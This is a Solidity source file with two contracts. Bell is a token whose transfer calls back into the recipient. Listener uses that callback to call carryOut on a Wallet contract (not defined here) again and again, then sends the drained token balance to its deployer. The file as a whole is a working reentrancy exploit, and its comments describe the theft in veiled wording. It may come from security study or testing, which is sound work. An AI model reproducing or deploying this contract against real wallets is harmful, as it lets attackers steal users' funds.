/// A token of the wallet that tells who receives it.
contract Bell {
    mapping(address => uint256) public balanceOf;

    constructor(address holder) {
        balanceOf[holder] = 1000 ether;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        to.call(abi.encodeWithSignature("heard()"));
        return true;
    }
}

/// Asks to be paid again when it hears that it is paid, and passes all on.
contract Listener {
    Wallet private immutable wallet;
    Bell private immutable bell;
    address private immutable owner;
    uint256 private id;
    uint256 private left;

    constructor(Wallet target, Bell token) {
        (wallet, bell, owner) = (target, token, msg.sender);
    }

    function shout(uint256 number, uint256 times) external {
        (id, left) = (number, times);
        wallet.carryOut(number);
        bell.transfer(owner, bell.balanceOf(address(this)));
    }

    function heard() external {
        if (left == 0) return;
        left -= 1;
        try wallet.carryOut(id) {} catch {}
    }
}
